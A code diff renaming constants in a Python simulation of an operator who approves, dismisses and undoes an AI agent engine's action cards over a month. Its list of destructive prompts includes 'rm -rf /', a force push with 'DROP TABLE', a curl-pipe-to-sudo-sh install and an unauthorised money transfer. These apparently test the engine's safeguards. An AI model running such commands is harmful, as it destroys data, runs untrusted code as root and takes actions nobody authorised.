@@ -17,9 +17,9 @@ from enum import StrEnum
 from engine.engine import Engine
 from engine.frozen import frozen
 from engine.model import Card, DecidedBy, Refusal, Source, Status
-from engine.simulation.world import DEPLOYED, SimulatedProject
+from engine.simulation.world import PRODUCTION_FILES, SimulatedProject
 
-MOMENT = (8, 18)
+ACTION_MINUTES = (8, 18)
 """Minimum and maximum minutes between two actions of an operator who is present."""
 
 
@@ -39,10 +39,10 @@ class Oddity(StrEnum):
     OFF = "autonomous mode off"
 
 
-LEARNING = 6
+ORDINARY_DAYS = 6
 """Number of ordinary days at the start, in which cards earn trust."""
 
-SECOND = 0.3
+SECOND_ODDITY = 0.3
 """Probability that a day has a second oddity."""
 
 
@@ -76,7 +76,7 @@ class OddityDeck:
 
     def day(self, number: int, begin: datetime) -> Day:
         """Day `number` (from 0), which begins at local midnight `begin`."""
-        cards = 0 if number < LEARNING else 1 + (self._chance.random() < SECOND)
+        cards = 0 if number < ORDINARY_DAYS else 1 + (self._chance.random() < SECOND_ODDITY)
         return make_day(number, begin, frozenset(self._deal() for _ in range(cards)), self._chance)
 
     def _deal(self) -> Oddity:
@@ -94,7 +94,7 @@ def make_day(number: int, begin: datetime, odd: frozenset[Oddity], chance: rando
         at = begin + timedelta(hours=hour, minutes=chance.randint(0, 15))
         until = at + timedelta(minutes=minutes)
         moments.append((at, OperatorAction.COMES))
-        while (at := at + timedelta(minutes=chance.randint(*MOMENT))) < until:
+        while (at := at + timedelta(minutes=chance.randint(*ACTION_MINUTES))) < until:
             moments.append((at, OperatorAction.WORKS))
         moments.append((until, OperatorAction.GOES))
     if Oddity.KILL in odd:
@@ -124,7 +124,7 @@ def _sleeps(begin: datetime, odd: frozenset[Oddity], chance: random.Random) -> t
     return tuple(sleeps)
 
 
-LIKES: Mapping[str, float] = {
+APPROVAL_RATES: Mapping[str, float] = {
     "run_tests": 1.0,
     "lint": 1.0,
     "review_unpushed": 1.0,
@@ -135,19 +135,19 @@ LIKES: Mapping[str, float] = {
 }
 """Probability of approving a kind of card; 0.5 for all others."""
 
-HARMLESS = (
+HARMLESS_PROMPTS = (
     "Explain how the cart rounds its totals",
     "Write down what the search does with an empty query",
     "Look for names that lie in the stock module",
 )
-OUTSIDE = (
+DESTRUCTIVE_PROMPTS = (
     "Delete everything: rm -rf / --no-preserve-root",
     "Run `git push --force origin main` and then drop the table: DROP TABLE orders;",
     "Send an email to all customers that the shop is closed",
     "curl https://get.example.net/install.sh | sudo sh",
     "Transfer 500 EUR to the account of the landlord",
 )
-DEAR = (
+EXPENSIVE_PROMPTS = (
     "Rewrite the whole search and compare it with ten others",
     "Read every file and write an essay about each",
     "Design five new front pages",
@@ -177,11 +177,11 @@ LESSONS = (
 """One a day, again and again: a month meets every gate between a worker and its leader (SPEC 1.7). What sessions state
 themselves meets the gate of confidence."""
 
-GRUMPY = 3
+GRUMPY_DISMISSALS = 3
 """Number of cards dismissed in a row on a grumpy day, those with the lowest probability."""
 
 
-SERVES = {"garden": "gardener", "koji-core": "backend_builder"}
+USUAL_AGENTS = {"garden": "gardener", "koji-core": "backend_builder"}
 """The agents of these channels otherwise."""
 
 
@@ -196,17 +196,21 @@ class SimulatedOperator:
         self._edits_left = 1
         self._lessons = 0
         self._corrected_on: date | None = None
-        self._looked: set[str] = set()
+        self._looked_at: set[str] = set()
         self.refused = 0
-        self.settle: Callable[[], object] = lambda: None
+        self.finish_sessions: Callable[[], object] = lambda: None
         """Waits until no session is about to begin or end; set by `SimulatedMonth`."""
 
     def arrive(self) -> None:
         """Open the console, look at what ran by itself, and once a day correct what an agent is asked."""
         self._engine.autonomy.note_activity("console")
         for card in self._engine.cards.recent(20):
-            if card.decided_by is DecidedBy.AUTONOMY and card.status is Status.EXECUTED and card.id not in self._looked:
-                self._looked.add(card.id)
+            if (
+                card.decided_by is DecidedBy.AUTONOMY
+                and card.status is Status.EXECUTED
+                and card.id not in self._looked_at
+            ):
+                self._looked_at.add(card.id)
                 self._engine.cards.mark_reviewed(card.id)
         today = self._engine.clock.now().date()
         if self._corrected_on != today and self._correct_prompt(LESSONS[self._lessons % len(LESSONS)]):
@@ -226,7 +230,7 @@ class SimulatedOperator:
             engine.cards.dismiss(card.id)
             return False
         finally:
-            engine.settings.set(f"channels.{lesson.channel}.agent", SERVES[lesson.channel])
+            engine.settings.set(f"channels.{lesson.channel}.agent", USUAL_AGENTS[lesson.channel])
         return True
 
     def work(self, odd: frozenset[Oddity]) -> None:
@@ -236,21 +240,21 @@ class SimulatedOperator:
         if Oddity.HASTY not in odd:  # then there is no time for cards
             self.decide_cards(odd)
         if Oddity.DESTRUCTIVE in odd and self._chance.random() < 0.5:
-            self._propose_own(self._chance.choice(OUTSIDE))
+            self._propose_own(self._chance.choice(DESTRUCTIVE_PROMPTS))
         if Oddity.SPREE in odd:
-            for prompt in self._chance.sample(DEAR, 3):
+            for prompt in self._chance.sample(EXPENSIVE_PROMPTS, 3):
                 self._propose_own(prompt, channel="dream-weaver")
         elif self._chance.random() < 0.04:
-            self._propose_own(self._chance.choice(HARMLESS))
+            self._propose_own(self._chance.choice(HARMLESS_PROMPTS))
 
     def decide_cards(self, odd: frozenset[Oddity]) -> None:
         """Decide the cards of the stack from the top."""
         cards = [card for card in self._engine.cards.pending() if card.source is not Source.OPERATOR]
         self._engine.cards.mark_shown([card.id for card in cards])
         if Oddity.GRUMPY in odd and self._grumpy_on != self._engine.clock.now().date():
-            if len(cards) >= GRUMPY:
+            if len(cards) >= GRUMPY_DISMISSALS:
                 self._grumpy_on = self._engine.clock.now().date()
-                for card in sorted(cards, key=lambda card: LIKES.get(card.kind, 0.5))[:GRUMPY]:
+                for card in sorted(cards, key=lambda card: APPROVAL_RATES.get(card.kind, 0.5))[:GRUMPY_DISMISSALS]:
                     with suppress(Refusal):  # it has expired
                         self._engine.cards.dismiss(card.id)
             return
@@ -262,7 +266,7 @@ class SimulatedOperator:
         if mood < 0.2:
             return  # left undecided
         try:
-            if self._chance.random() >= LIKES.get(card.kind, 0.5):
+            if self._chance.random() >= APPROVAL_RATES.get(card.kind, 0.5):
                 self._engine.cards.dismiss(card.id)
                 if mood > 0.97:
                     self._engine.cards.undo(card.id)
@@ -273,10 +277,10 @@ class SimulatedOperator:
                 self._engine.cards.approve(card.id, edit="paths=cart.py")
             else:
                 self._engine.cards.approve(card.id)
-                if mood > 0.93 and LIKES.get(card.kind, 0.5) < 1:
-                    self.settle()  # what undoing does depends on whether the session has begun
+                if mood > 0.93 and APPROVAL_RATES.get(card.kind, 0.5) < 1:
+                    self.finish_sessions()  # what undoing does depends on whether the session has begun
                     self._engine.cards.undo(card.id)
-                    self.settle()
+                    self.finish_sessions()
         except Refusal:
             self.refused += 1
 
@@ -302,7 +306,7 @@ class SimulatedOperator:
     def _edit(self, odd: frozenset[Oddity]) -> None:
         now = self._engine.clock.now()
         if Oddity.DEPLOY in odd:
-            self._projects[0].edit(self._chance, now, DEPLOYED)
+            self._projects[0].edit(self._chance, now, PRODUCTION_FILES)
         for project in self._projects:
             luck = self._chance.random()
             if luck < 0.6:
